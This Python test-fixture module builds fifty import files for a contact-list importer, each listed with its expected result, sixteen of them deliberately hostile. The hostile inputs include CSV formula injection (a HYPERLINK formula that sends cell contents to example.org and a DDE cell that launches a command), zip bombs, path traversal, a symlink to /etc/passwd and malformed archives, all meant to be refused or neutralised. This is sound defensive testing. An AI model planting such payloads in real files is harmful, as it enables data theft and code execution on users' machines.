"""Fifty files as partners and other programs make them, sixteen of them hostile, each with its result.

The table in docs/import.md is this list; a test compares the two.
"""

import csv
import io
import json
import struct
import zipfile
from collections.abc import Callable, Sequence
from dataclasses import dataclass

from tests.factories.workbooks import excel_parts, ods, ods_row, ods_sheet, ods_text, pack

OUR_HEADER = ["email", "name", "organisation", "country", "sectors", "language", "tags"]
NAMES = {
    "zh": ["陈晓明", "李娜", "王小明"],
    "ja": ["髙橋健一", "佐藤さくら", "鈴木一郎"],
    "ko": ["김철수", "이영희", "박민수"],
    "fr": ["José Peña", "Zoé Müller", "François Noël"],
    "ru": ["Иванова Анна", "Петров Сергей", "Сидоров Пётр"],
    "mn": ["Батсүх Энхжин", "Дорж Сарантуяа", "Ганбаатар Өлзий"],
    "tw": ["王小明", "陳大文", "台北市教育局"],
}


@dataclass(frozen=True, kw_only=True)
class Spreadsheet:
    """A file's name, its description, its bytes, and the result of importing it.

    ``names`` are those that must be on the list afterwards.
    """

    file: str
    what: str
    data: Callable[[], bytes]
    result: str
    names: Sequence[str] = ()


def people(language: str) -> list[list[str]]:
    return [[f"p{number}@example.org", name] for number, name in enumerate(NAMES[language])]


def delimited(
    rows: Sequence[Sequence[str]], *, encoding: str = "utf-8", delimiter: str = ",", end: str = "\r\n"
) -> bytes:
    stream = io.StringIO(newline="")
    csv.writer(stream, delimiter=delimiter, lineterminator=end).writerows(rows)
    return stream.getvalue().encode(encoding)


def named(language: str, **how: str) -> Callable[[], bytes]:
    return lambda: delimited([["email", "name"], *people(language)], **how)


def packed(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", method) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return stream.getvalue()


def workbook(rows: Sequence[Sequence[object]]) -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for row in rows:
        sheet.append(list(row))
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


def doctored(sheet_xml: str) -> bytes:
    """A workbook with sheet XML that Excel would never write."""
    original = zipfile.ZipFile(io.BytesIO(workbook([["email"], ["ann@example.org"]])))
    members = {name: original.read(name) for name in original.namelist()}
    members["xl/worksheets/sheet1.xml"] = sheet_xml.encode()
    return packed(members)


def sheet_of(cells: str) -> str:
    spreadsheet = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    return f'<?xml version="1.0"?><worksheet xmlns="{spreadsheet}"><sheetData>{cells}</sheetData></worksheet>'


def lying_archive() -> bytes:
    """A megabyte of zeros whose ZIP directory claims ten bytes."""
    data = bytearray(packed({"people.csv": b"email\n" + b"x" * 1_000_000}))
    entry = data.index(b"PK\x01\x02")
    struct.pack_into("<I", data, entry + 24, 10)
    return bytes(data)


def linked_archive() -> bytes:
    info = zipfile.ZipInfo("people.csv")
    info.external_attr = 0o120777 << 16
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr(info, "/etc/passwd")
    return stream.getvalue()


def encrypted_archive() -> bytes:
    data = bytearray(packed({"people.csv": b"email\nann@example.org\n"}))
    data[data.index(b"PK\x01\x02") + 8] |= 1
    data[6] |= 1
    return bytes(data)


def mailchimp(*more: str) -> list[str]:
    places = ["LATITUDE", "LONGITUDE", "GMTOFF", "DSTOFF", "TIMEZONE", "CC", "REGION", "LAST_CHANGED"]
    return [
        *("Email Address", "First Name", "Last Name", "Company", "MEMBER_RATING", "OPTIN_TIME", "OPTIN_IP"),
        *places,
        *("LEID", "EUID", "NOTES"),
        *more,
        "TAGS",
    ]


def chimp_row(email: str, first: str, last: str, country: str, tags: str, more: int = 0) -> list[str]:
    return [
        *(email, first, last, "Ministry", "2", "2020-01-02 03:04:05", "192.0.2.1"),
        *("47.9", "106.9", "8", "8", "Asia/Ulaanbaatar", country, "", "2021-01-02 03:04:05"),
        *("1", "e1", ""),
        *["2021-05-06 07:08:09"] * more,
        tags,
    ]


def mailchimp_archive() -> bytes:
    members = [mailchimp(), chimp_row("ann@example.org", "Ann", "Li", "MN", '"press","vip"')]
    members.append(chimp_row("both@example.org", "Both", "", "CN", ""))
    left = [mailchimp("UNSUB_TIME"), chimp_row("left@example.org", "Left", "", "", "", 1)]
    left.append(chimp_row("both@example.org", "Both", "", "", "", 1))
    dead = [mailchimp("CLEAN_TIME"), chimp_row("dead@example.org", "Dead", "", "", "", 1)]
    strangers = [mailchimp(), chimp_row("shop@example.org", "Shop", "", "", "")]
    return packed(
        {
            "subscribed_members_export_1a2b.csv": delimited(members),
            "unsubscribed_members_export_1a2b.csv": delimited(left),
            "cleaned_members_export_1a2b.csv": delimited(dead),
            "nonsubscribed_members_export_1a2b.csv": delimited(strangers),
        }
    )


def listmonk_file() -> bytes:
    rows = [["uuid", "email", "name", "attributes", "status", "created_at", "updated_at"]]
    at = "2020-01-02 03:04:05.6 +0000 UTC"
    for email, attributes, status in (
        ("ann@example.org", {"country": "Mongolia", "tags": ["press"], "city": "Erdenet"}, "enabled"),
        ("off@example.org", {}, "disabled"),
        ("bad@example.org", {}, "blocklisted"),
    ):
        rows.append(["u", email, email[:3], json.dumps(attributes), status, at, at])
    rows.append(["u", "odd@example.org", "Odd", "{", "enabled", at, at])
    return delimited(rows)


VCARDS = """\
BEGIN:VCARD\r
VERSION:3.0\r
FN:Ann Li\r
ORG:Ministry\\, of Education;Schools\r
item1.EMAIL;TYPE=work:ann@example.org\r
ADR;TYPE=work:;;Street 1;Ulaanbaatar;;;Mongolia\r
CATEGORIES:press,vip\r
END:VCARD\r
BEGIN:VCARD\r
VERSION:2.1\r
N;CHARSET=UTF-8;ENCODING=QUOTED-PRINTABLE:=E9=99=88;=E6=99=93=\r
=E6=98=8E\r
EMAIL;INTERNET:chen@example.org\r
END:VCARD\r
BEGIN:VCARD\r
VERSION:4.0\r
FN:Nobody\r
END:VCARD\r
"""

APPLE_CARDS = """\
BEGIN:VCARD\r
VERSION:3.0\r
N:Li;Ann;;;\r
item1.EMAIL;type=INTERNET:home@example.org\r
EMAIL;type=INTERNET;type=pref:ann@example.org\r
END:VCARD\r
BEGIN:VCARD\r
VERSION:4.0\r
N:;Bat;;;\r
EMAIL;PREF=2:mailto:old@example.org\r
EMAIL;PREF=1:mailto:bat@example.org\r
END:VCARD\r
"""

ADDRESS_CELLS = [
    ["name", "email"],
    ["", '"Li, Ann" <ann@example.org>'],
    ["Bat", "mailto:bat@example.org?subject=Hello"],
    ["Chen", "chen@example.org ::: chen2@example.org"],
    ["Dorj", "\u00a0dorj@example.org;\u200b"],
    ["", "eve@example.org / fax 12 34"],
]


def workbook_of_several_sheets() -> bytes:
    """A cover sheet without rows, the list with an organisation merged over two people, another list."""
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.create_sheet("Members")
    for row in (["email", "name", "organisation"], ["ann@example.org", "Ann", "Ministry"],
                ["bob@example.org", "Bob"]):  # fmt: skip
        sheet.append(row)
    sheet.merge_cells("C2:C3")
    book.create_sheet("Board").append(["email"])
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


def open_document() -> bytes:
    rows = [
        ods_row("email", "name", "country"),
        ods_row("ann@example.org", "Ann", ods_text("Mongolia", 'table:number-rows-spanned="2"')),
        ods_row("bob@example.org", "Bob", "<table:covered-table-cell/>"),
    ]
    return ods(ods_sheet("Members", *rows) + ods_sheet("Board", ods_row("email")))


def bomb_beside_a_picture() -> bytes:
    parts = excel_parts("<sheetData/>", texts="<si><t>a</t></si>" * 1_000_000)
    return pack({**parts, "xl/media/image1.png": bytes(200_000)}, stored=["xl/media/image1.png"])


FORMULAS = [
    OUR_HEADER,
    ["ann@example.org", '=HYPERLINK("http://example.org/?"&A1)', "+cmd|' /C calc'!A0", "MN", "", "", ""],
    ["bob@example.org", "'=1+1", "@SUM(1)", "", "", "", "=tag"],
]

ORDINARY = (
    Spreadsheet(file="ours.csv", what="our own columns, UTF-8", result="3 added", names=NAMES["mn"],
                data=named("mn")),
    Spreadsheet(file="mark.csv", what="UTF-8 with a byte order mark, as Excel saves it", result="3 added",
                names=NAMES["zh"], data=named("zh", encoding="utf-8-sig")),
    Spreadsheet(file="utf-16.txt", what="Excel's “Unicode text”: UTF-16 with tabs", result="3 added",
                names=NAMES["zh"], data=named("zh", encoding="utf-16", delimiter="\t")),
    Spreadsheet(file="utf-16-bare.txt", what="UTF-16 that has lost its mark", result="3 added",
                names=NAMES["ja"], data=named("ja", encoding="utf-16-le")),
    Spreadsheet(file="gb18030.csv", what="saved by a Chinese Excel", result="3 added", names=NAMES["zh"],
                data=named("zh", encoding="gb18030")),
    Spreadsheet(file="cp932.csv", what="saved by a Japanese Excel", result="3 added", names=NAMES["ja"],
                data=named("ja", encoding="cp932")),
    Spreadsheet(file="cp949.csv", what="saved by a Korean Excel", result="3 added", names=NAMES["ko"],
                data=named("ko", encoding="cp949")),
    Spreadsheet(file="big5.csv", what="saved by an Excel of Taiwan or Hong Kong", result="3 added",
                names=NAMES["tw"], data=named("tw", encoding="big5hkscs")),
    Spreadsheet(file="cp1251.csv", what="saved by a Russian Excel", result="3 added", names=NAMES["ru"],
                data=named("ru", encoding="cp1251")),
    Spreadsheet(file="cp1252.csv", what="saved by a French Excel: semicolons, Windows-1252", result="3 added",
                names=NAMES["fr"], data=named("fr", encoding="cp1252", delimiter=";")),
    Spreadsheet(file="tabs.tsv", what="tabs between cells", result="3 added", names=NAMES["mn"],
                data=named("mn", delimiter="\t")),
    Spreadsheet(file="bars.csv", what="bars between cells", result="3 added", names=NAMES["mn"],
                data=named("mn", delimiter="|")),
    Spreadsheet(file="old-mac.csv", what="lines that end with CR alone", result="3 added", names=NAMES["mn"],
                data=named("mn", end="\r")),
    Spreadsheet(file="one-column.csv", what="addresses and nothing else", result="2 added",
                data=lambda: b"email\nann@example.org\nbob@example.org\n"),
    Spreadsheet(file="broken-lines.csv", what="a line break inside a cell", result="1 added",
                names=["Ann Li"], data=lambda: b'email,name\nann@example.org,"Ann\nLi"\n'),
    Spreadsheet(file="empty-rows.csv", what="empty rows and columns that a spreadsheet left",
                result="1 added", data=lambda: b"email,name,,\n,,,\nann@example.org,Ann,,\n,,,\n"),
    Spreadsheet(file="countries.csv", what="countries in ten languages, and one that could be two",
                result="5 added",
                data=lambda: delimited([["email", "country"], ["a@example.org", "モンゴル"],
                                        ["b@example.org", "République de Corée"], ["c@example.org", "CHN"],
                                        ["d@example.org", "Viet Nam"], ["e@example.org", "Korea"]])),
    Spreadsheet(file="twice.csv", what="the same address twice, in two spellings",
                result="1 added, 1 refused", data=lambda: b"email\nAnn@Example.org\nann@example.org\n"),
    Spreadsheet(file="wrong-rows.csv", what="rows without an address, with an unknown sector, too long",
                result="1 added, 3 refused",
                data=lambda: b"email,sectors\nann@example.org,education\nann,\n"
                             b"bob@example.org,eduction\ncy@example.org,,x\n"),
    Spreadsheet(file="full-width.csv", what="full-width letters in addresses", result="1 added",
                data=lambda: delimited([["email"], ["ａｎｎ＠example.org"]])),
    Spreadsheet(file="book.xlsx", what="an Excel workbook with numbers and days in it", result="2 added",
                names=["976000000", "Ann"],
                data=lambda: workbook([["email", "name"], ["ann@example.org", "Ann"],
                                       ["bob@example.org", 976000000.0]])),
    Spreadsheet(file="mailchimp.zip", what="Mailchimp's archive of subscribed, unsubscribed, cleaned and "
                "non-subscribed", result="1 added, 4 suppressed, 1 refused", names=["Ann Li"],
                data=mailchimp_archive),
    Spreadsheet(file="subscribed.csv", what="one file of it by itself", result="1 added", names=["Ann Li"],
                data=lambda: delimited([mailchimp(), chimp_row("ann@example.org", "Ann", "Li", "MN", "")])),
    Spreadsheet(file="unsubscribed.csv", what="the file of those who left, by itself", result="1 suppressed",
                data=lambda: delimited([mailchimp("UNSUB_TIME"),
                                        chimp_row("ann@example.org", "Ann", "Li", "MN", "", 1)])),
    Spreadsheet(file="cleaned.csv", what="the file of dead addresses, by itself", result="1 suppressed",
                data=lambda: delimited([mailchimp("CLEAN_TIME"),
                                        chimp_row("ann@example.org", "Ann", "Li", "MN", "", 1)])),
    Spreadsheet(file="listmonk.csv", what="listmonk's export: enabled, disabled, blocklisted, one broken",
                result="1 added, 2 suppressed, 1 refused", names=["ann"], data=listmonk_file),
    Spreadsheet(file="listmonk-short.csv", what="what listmonk itself would import", result="1 added",
                data=lambda: delimited([["email", "name", "attributes"], ["ann@example.org", "Ann", "{}"]])),
    Spreadsheet(file="contacts.vcf", what="vCards 2.1, 3.0 and 4.0, one without an address",
                result="2 added, 1 refused", names=["Ann Li", "晓明 陈"], data=lambda: VCARDS.encode()),
    Spreadsheet(file="sheets.xlsx", what="an empty sheet, one with merged cells, a third that is named",
                result="2 added", names=["Ann", "Bob"], data=workbook_of_several_sheets),
    Spreadsheet(file="members.ods", what="an OpenDocument spreadsheet of LibreOffice, with the same",
                result="2 added", names=["Ann", "Bob"], data=open_document),
    Spreadsheet(file="sep.csv", what="a first line that says how the file is delimited: sep=;",
                result="3 added", names=NAMES["fr"],
                data=lambda: b"sep=;\r\n" + delimited([["email", "name"], *people("fr")], delimiter=";")),
    Spreadsheet(file="sep-utf-16.csv", what="the same in UTF-16", result="3 added", names=NAMES["zh"],
                data=lambda: ("sep=\t\r\n" + named("zh", delimiter="\t")().decode()).encode("utf-16")),
    Spreadsheet(file="address-cells.csv", what="addresses with names, links and second addresses beside them",
                result="5 added", names=["Ann Li", "Bat", "Chen", "Dorj"],
                data=lambda: delimited(ADDRESS_CELLS)),
    Spreadsheet(file="two-addresses.vcf", what="an address book whose people have several addresses",
                result="2 added", names=["Ann Li", "Bat"], data=lambda: APPLE_CARDS.encode()),
)  # fmt: skip

HOSTILE = (
    Spreadsheet(file="formulas.csv", what="formulas in cells: kept as text, written out harmless",
                result="2 added", names=['=HYPERLINK("http://example.org/?"&A1)'],
                data=lambda: delimited(FORMULAS)),
    Spreadsheet(file="bomb.zip", what="an archive of 50 kB that unfolds to 50 MB",
                result="refused whole: claims to hold", data=lambda: packed({"a.csv": b"0" * 50_000_000})),
    Spreadsheet(file="bomb.xlsx", what="the same in a workbook", result="refused whole: claims to hold",
                data=lambda: packed({"xl/workbook.xml": b"", "xl/worksheets/sheet1.xml": b" " * 50_000_000})),
    Spreadsheet(file="liar.zip", what="an archive whose directory lies about a size",
                result="refused whole: the archive is damaged", data=lying_archive),
    Spreadsheet(file="slip.zip", what="a member called ../../people.csv",
                result="refused whole: points outside the archive",
                data=lambda: packed({"../../people.csv": b"email\nann@example.org\n"})),
    Spreadsheet(file="link.zip", what="a member that is a link to /etc/passwd",
                result="refused whole: is a link to another file", data=linked_archive),
    Spreadsheet(file="secret.zip", what="an encrypted archive", result="refused whole: is encrypted",
                data=encrypted_archive),
    Spreadsheet(file="crowd.zip", what="an archive of two thousand files",
                result="refused whole: has 2,000 files",
                data=lambda: packed({f"{number}.csv": b"email\n" for number in range(2000)})),
    Spreadsheet(file="wide.csv", what="a million columns", result="refused whole: it has 1,000,000 columns",
                data=lambda: b"," * 999_999 + b"\n"),
    Spreadsheet(file="vast.xlsx", what="a workbook with a cell in its last column and row",
                result="refused whole: reaches to column 16,384 and row 1,048,576",
                data=lambda: doctored(sheet_of('<row r="1"><c r="A1"/></row>'
                                               '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'))),
    Spreadsheet(file="endless.csv", what="a line of three million bytes",
                result="refused whole: a line is longer than a million bytes",
                data=lambda: b"email\n" + b"x" * 3_000_000),
    Spreadsheet(file="unclosed.csv", what="a quotation mark that is never closed",
                result="refused whole: a quotation mark is opened in this row and never closed",
                data=lambda: b'email,name\nann@example.org,"Ann\nbob@example.org,Bob\n'),
    Spreadsheet(file="picture.xlsx", what="a workbook whose texts are a bomb, beside a picture that is none",
                result="refused whole: claims to hold 17,", data=bomb_beside_a_picture),
    Spreadsheet(file="repeated.ods", what="a spreadsheet that repeats a row two thousand million times",
                result="refused whole: reaches to column 1 and row 1,048,577",
                data=lambda: ods(ods_sheet("S", ods_row("email", repeated=2_000_000_000)))),
    Spreadsheet(file="web-page.xls", what="a web page that is called a workbook",
                result="refused whole: it is a web page (HTML)",
                data=lambda: b"<table><tr><td>email</td></tr><tr><td>ann@example.org</td></tr></table>"),
    Spreadsheet(file="old.xls", what="an Excel 97 workbook",
                result="refused whole: it is an Excel 97 workbook (.xls)",
                data=lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "Workbook\0".encode("utf-16-le")),
)  # fmt: skip

SPREADSHEETS = (*ORDINARY, *HOSTILE)
